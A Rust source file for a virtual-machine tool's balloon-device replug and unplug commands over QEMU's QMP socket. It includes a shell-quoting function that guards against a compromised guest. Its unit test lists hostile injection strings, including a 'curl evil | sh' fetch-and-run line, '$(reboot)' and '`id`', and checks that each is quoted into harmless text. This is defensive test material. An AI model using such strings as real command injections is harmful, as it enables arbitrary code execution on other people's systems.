// SPDX-License-Identifier: Apache-2.0 OR MIT
//! `demeter balloon replug`: the way back after demeterd has died, and after a
//! migration; `demeter balloon unplug`: the way to a migration.

use std::path::PathBuf;

use clap::Args;

use super::qmp::{self, Place, Plug};
use crate::error::{Error, refuse};

/// Options. What the device in the machine says wins over them.
#[derive(Args)]
pub struct Arguments {
    /// QMP socket of the guest's QEMU
    #[arg(long, value_name = "PATH")]
    qmp: PathBuf,
    /// Id of the device
    #[arg(long, value_name = "ID", default_value = "balloon0")]
    id: String,
    /// demeterd's vhost-user socket; needed if the device is out already
    #[arg(long, value_name = "PATH")]
    socket: Option<PathBuf>,
    /// Root port; needed if the device is out already
    #[arg(long, value_name = "BUS")]
    bus: Option<String>,
    /// Id of the chardev
    #[arg(long, value_name = "ID", default_value = "balloon-socket")]
    chardev: String,
}

impl Arguments {
    fn place(&self) -> Place {
        Place {
            id: self.id.clone(),
            chardev: self.chardev.clone(),
            socket: (self.socket.as_ref()).map(|path| path.to_string_lossy().into_owned()),
            bus: self.bus.clone(),
        }
    }
}

pub fn execute(arguments: &Arguments) -> Result<u8, Error> {
    let mut qmp = qmp::connect(&arguments.qmp)?;
    let plug = Plug::look(&mut qmp, &arguments.place())?;
    plug.take_out(&mut qmp)?;
    plug.put_in(&mut qmp)?;
    eprintln!("demeter: {} is plugged in anew", arguments.id);
    Ok(0)
}

/// Options of `unplug`.
#[derive(Args)]
pub struct Out {
    /// QMP socket of the guest's QEMU
    #[arg(long, value_name = "PATH")]
    qmp: PathBuf,
    /// Id of the device
    #[arg(long, value_name = "ID", default_value = "balloon0")]
    id: String,
}

/// Takes the device out, and says how it comes back.
pub fn unplug(arguments: &Out) -> Result<u8, Error> {
    let mut qmp = qmp::connect(&arguments.qmp)?;
    let place = Place {
        id: arguments.id.clone(),
        ..Place::default()
    };
    let plug = Plug::look(&mut qmp, &place)?;
    // Before it is out: who could not be told how it comes back keeps it.
    let path = arguments.qmp.to_string_lossy();
    let mut command = "demeter balloon replug".to_owned();
    for (option, value) in [
        ("qmp", path.as_ref()),
        ("id", &plug.id),
        ("chardev", &plug.chardev),
        ("socket", &plug.socket),
        ("bus", &plug.bus),
    ] {
        command.push_str(&format!(" --{option} {}", word(value)?));
    }
    plug.take_out(&mut qmp)?;
    eprintln!(
        "demeter: {} is out; the guest keeps its pages for a minute",
        plug.id
    );
    println!("{command}");
    Ok(0)
}

/// A word for a shell, which somebody will paste: QEMU said what is in it, and a guest may have
/// become QEMU.
fn word(text: &str) -> Result<String, Error> {
    if text.chars().any(|letter| letter.is_control()) {
        return Err(refuse(
            format!("the machine names {text:?}, which no socket or bus is called"),
            "distrust it; plug the device in again with --socket and --bus of its description",
        ));
    }
    let plain = |letter: char| letter.is_ascii_alphanumeric() || "_-./:,+=@%".contains(letter);
    if !text.is_empty() && text.chars().all(plain) {
        return Ok(text.to_owned());
    }
    Ok(format!("'{}'", text.replace('\'', r"'\''")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_to_be_pasted_is_words_and_nothing_else() {
        assert_eq!(
            word("/run/demeter/web.sock").unwrap(),
            "/run/demeter/web.sock"
        );
        for hostile in [
            "/run/x; curl evil | sh #",
            "$(reboot)",
            "it's",
            "a b",
            "",
            "`id`",
            "~",
        ] {
            let quoted = word(hostile).unwrap();
            let out = std::process::Command::new("sh")
                .args(["-c", &format!("printf %s {quoted}")])
                .output()
                .unwrap();
            assert_eq!(String::from_utf8_lossy(&out.stdout), hostile);
        }
        assert!(word("\u{1b}]0;title\u{7}").is_err() && word("a\nb").is_err());
    }
}
